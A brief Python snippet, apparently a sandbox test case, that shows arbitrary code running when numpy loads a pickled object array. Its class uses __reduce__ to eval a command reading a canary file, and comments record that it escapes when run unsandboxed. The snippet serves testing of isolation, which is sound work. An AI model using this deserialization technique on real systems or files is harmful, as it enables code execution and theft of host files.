# Tries: have code run by loading an array of objects.
# Contained: the host's file does not come out.
# Alone: escapes
class Attack:
    def __reduce__(self):
        return eval, (f"print('ESCAPED:', open({canary_path!r}).read())",)

np.save("objects.npy", np.array([Attack()], dtype=object), allow_pickle=True)
np.load("objects.npy", allow_pickle=True)
